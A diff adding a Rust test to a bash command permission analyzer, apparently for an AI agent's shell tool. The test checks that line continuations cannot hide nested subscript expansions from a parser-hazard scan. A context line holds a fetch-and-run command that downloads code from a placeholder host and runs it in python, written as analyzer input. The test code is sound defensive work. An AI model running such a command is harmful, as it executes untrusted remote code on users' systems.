@@ -507,3 +507,35 @@ fn deny_rules_see_what_an_opaque_wrapper_most_likely_runs() {
     let a = analyze("python3 <(curl -s https://example.com/x)");
     assert_eq!(a.parts[1].substitutions, [(1, vec!["curl".to_owned()])]);
 }
+
+/// The shell parser backtracks exponentially on expansions that nest subscripts
+/// (`${a[${b[…`), and the scan that finds them before it runs reads the text as the
+/// parser does: a line continuation between `$` and `{` (which the fuzzer found taking
+/// seconds) hides none of them, and a continuation alone makes nothing opaque.
+#[test]
+fn a_line_continuation_hides_no_nested_subscript_from_the_parser_hazard_scan() {
+    use bash_mcp::permission::analyze;
+    let reasons = |text: &str| -> Vec<String> { analyze(text).opaque.iter().map(|o| o.reason.clone()).collect() };
+    let policy = PermissionPolicy::new(&["bash.execute:echo *"], &[] as &[&str]).unwrap();
+    for word in [
+        "${t[".repeat(7) + "x",
+        "${t[}".repeat(7) + "x",
+        "$\\\n{t[".repeat(7) + "x",
+        "$\\\n{t\\\n[".repeat(7) + "x",
+    ] {
+        let text = format!("echo {word}");
+        let why = reasons(&text);
+        assert!(why.iter().any(|r| r.contains("subscripts")), "{text:?}: {why:?}");
+        let args = serde_json::json!({ "command": text }).to_string();
+        assert_ne!(policy.decide("bash.execute", &args), Decision::Allow, "{text:?}");
+    }
+    let found = "9&ii;i:TT>(TTTTTlK[t$\\\n{t[tt$\\\n{TTTTTTTTTlK[t$\\\n{t[tt$\\\n{TTTTTTTTTTTTTT";
+    assert!(
+        reasons(found).iter().any(|r| r.contains("subscripts")),
+        "{:?}",
+        reasons(found)
+    );
+    for text in ["echo \"${HOME}/${P}\" a\\\nb", "ls $\\\n{HOME}"] {
+        assert!(!analyze(text).is_opaque(), "{text:?}: {:?}", reasons(text));
+    }
+}
